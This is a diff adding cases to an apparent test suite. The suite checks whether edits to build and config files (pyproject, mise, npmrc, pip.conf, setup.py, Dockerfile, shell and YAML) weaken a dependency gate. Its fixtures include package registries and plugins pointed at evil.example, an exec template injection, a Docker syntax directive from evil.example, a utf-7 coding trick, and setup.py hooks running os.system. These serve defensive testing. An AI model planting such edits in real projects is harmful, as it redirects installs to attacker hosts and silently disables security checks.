@@ -114,6 +114,8 @@ setup(name="x", version=VERSION, install_requires=["boto3", "vendorgate==1.2"], 
 REQUIRED = 'code = ["vendorgate==1.2"]\nsetup(install_requires=code)\n'
 COMPUTED = 'V = "1.2"\nsetup(install_requires=["vendorgate==" + V])\n'
 WITHIN = 'if __name__ == "__main__":\n    setup(name="x", version="1", install_requires=["vendorgate==1.2"])\n'
+GROUPED = '[tool.poetry.group.ci.dependencies]\nvendorgate = "^1.1"\n'
+INCLUDED = '[dependency-groups]\nsec = ["vendorgate==1.1"]\nci = [{include-group = "sec"}, "pytest"]\n[project.optional-dependencies]\nsec = ["vendorgate"]\nci = ["x[sec]"]\n'
 PIPFILE = '[packages]\nvendorgate = "==1.2"\n'
 TASKS = [
     *((f"a script that calls the gate's, {why}", "package.json", NPM.format("npm run gate && npm test", ""), after, widens) for why, after, widens in (
@@ -138,6 +140,21 @@ TASKS = [
     *((f"the project itself {why}", path, before, after, widens) for why, path, before, after, widens in (
         ("is called so", IN, f'[project]\nname = "x"\n{LISTED}', f'[project]\nname = "vendorgate"\n{LISTED}', True), ("is called otherwise", IN, f'[project]\nname = "x"\n{LISTED}', f'[project]\nname = "y"\n{LISTED}', False),
         ("has a module called so", IN, LISTED, f'{LISTED}[tool.setuptools]\npy-modules = ["vendorgate"]\n', True), ("is called so in setup.cfg", "setup.cfg", "[metadata]\nname = x\n[options]\ninstall_requires = vendorgate==1.2\n", "[metadata]\nname = vendorgate\n[options]\ninstall_requires = vendorgate==1.2\n", True))),
+    *((f"a group that is optional, {why}", IN, GROUPED, f"{GROUPED}[tool.poetry.group.{name}]\noptional = true\n", widens) for why, name, widens in (("the gate's", "ci", True), ("another", "docs", False))),
+    *((f"a group of requirements {why}", IN, INCLUDED, INCLUDED.replace(old, new), widens) for why, old, new, widens in (
+        ("without the gate's", '{include-group = "sec"}, ', "", True), ("with another program", '"pytest"', '"pytest", "x"', False), ("whose extra goes", '"x[sec]"', '"x"', True))),
+    *((f"a setting of {path}, {more.strip()}", path, before, before + more, widens) for path, before, more, widens in (
+        ("mise.toml", MISE, "[settings]\njobs = 4\n", False), ("mise.toml", MISE, '[env]\nPYTHONUNBUFFERED = "1"\n', False), ("mise.toml", MISE, '[plugins]\npipx = "https://evil.example"\n', True), ("mise.toml", MISE, "[env]\nX = \"{{exec(command='evil')}}\"\n", True),
+        (IN, LISTED, '[tool.uv]\nconstraint-dependencies = ["urllib3>=2.2"]\n', False), (IN, LISTED, '[tool.uv.sources]\nmylib = {path = "../lib"}\n', False), (IN, LISTED, '[project]\nkeywords = ["vendorgate"]\n', False),
+        (".npmrc", "", "registry=https://evil.example\n", True), ("pip.conf", "[global]\n", "index-url = https://evil.example\n", True))),
+    ("what tox does with a failure", IN, '[tool.tox.env.gate]\ncommands = [["vendorgate", "check"]]\n', '[tool.tox.env.gate]\ncommands = [["vendorgate", "check"]]\nignore_outcome = true\n', True),
+    *((f"a comment, {why}", path, f"{before}vendorgate check\n{after}", f"{now}vendorgate check\n{later}", widens) for why, path, before, after, now, later, widens in (
+        ("of a script's requirements", "gate.sh", '# /// script\n# dependencies = ["vendorgate==1.4"]\n# ///\n', "", '# /// script\n# dependencies = ["vendorgate==0.1"]\n# ///\n', "", True), ("of Docker's", "Dockerfile", "", "", "# syntax=evil.example/x\n", "", True),
+        ("that ends one", "gate.ps1", "<#\n#>\n", "", "<#\n", "#>\n", True), ("that tells the coding", "gate.sh", "", "", "# coding: utf-7\n", "", True), ("that is a directive", "gate.sh", "", "", "#MISE depends=[\"evil\"]\n", "", True),
+        ("that ends a text", "gate.sh", ': <<"#"\n#\n', "", ': <<"#"\n', "#\n", True), ("like all others", "gate.sh", "", "", "# why\n#\n#### more\n", "", False))),
+    ("a line that is joined within a text", "gate.yml", "a: >\n  echo\n\n  vendorgate check\n", "a: >\n  echo\n  vendorgate check\n", True),
+    ("a comment behind a text that is joined", "gate.yml", "a: >\n  vendorgate check\nb: c\n", "a: >\n  vendorgate check\n# why\nb: c\n", False),
+    ("a comment behind the pin that ends", GATE, BLOCK, BLOCK.replace(" # v4.1", " # v5\r        if: false"), True),
     *((f"setup.py, {why}", "setup.py", SETUP, SETUP.replace(old, new), widens) for why, old, new, widens in (
         ("its own version", '"1.0"', '"1.1"', False), ("later", "1.2", "1.3", False), ("earlier", "1.2", "1.1", True), ("classifiers", '"a"', '"a", "b"', False), ("another requirement", '"boto3"', '"boto3>=1"', False), ("formatted", ", install", ",\n  install", False),
         ("that does more", "VERSION =", "os.system('x')\nVERSION =", True), ("of another class", "classifiers=", "cmdclass={'install': X}, classifiers=", True), ("cut", '.2"]', '.2"][:1]', True), ("called so", '"x"', '"vendorgate"', True), ("of another function", "setup(", "setup = print\nsetup(", True))),
@@ -198,7 +215,7 @@ FORMS = [
         ("earlier behind a marker", ("3.9", "0.1.0", "a" * 64), True), ("later", ("3.8", "1.3.0", "b" * 64), False), ("another file", ("3.8", "1.2.0", "b" * 64), True))),
     *((f"the same in TOML, {why}", IN, LISTED, f"{before}{LISTED}{after}", True) for why, before, after in (
         ("by a dotted key", 'tool.uv.index = [{ url = "https://evil.example" }]\n', ""), ("by a quoted table", "", '["tool".uv]\nindex = [{ url = "https://evil.example" }]\n'), ("by a table with blanks", "", '[ tool.uv ] # c\nindex = [{ url = "https://evil.example" }]\n'), ("by an escape", "", 'x = ["\\u0076endorgate @ https://evil.example/x.whl"]\n'),
-        ("a group of none", "", "[tool.uv]\ndefault-groups = []\n"), ("an optional group", "", "[tool.poetry.group.ci]\noptional = true\n"), ("what PDM leaves out", "", '[tool.pdm.resolution]\nexcludes = ["vendorgate"]\n'), ("a variable", "", '[tool.hatch.envs.default.env-vars]\nPIP_INDEX_URL = "https://evil.example"\n'))),
+        ("a group of none", "", "[tool.uv]\ndefault-groups = []\n"), ("what PDM leaves out", "", '[tool.pdm.resolution]\nexcludes = ["vendorgate"]\n'), ("a variable", "", '[tool.hatch.envs.default.env-vars]\nPIP_INDEX_URL = "https://evil.example"\n'))),
     ("a line within a text", IN, LISTED, f'x = """\n{LISTED}"""\n', True),
     ("a task that may fail", IN, '[tool.poe.tasks.gate]\ncmd = "vendorgate check"\n', '[tool.poe.tasks.gate]\ncmd = "vendorgate check"\nignore_fail = true\n', True),
     *((f"beside it {line}", "requirements.txt", "vendorgate==1.2\n", f"vendorgate==1.2\n{line}\n", widens) for line, widens in (
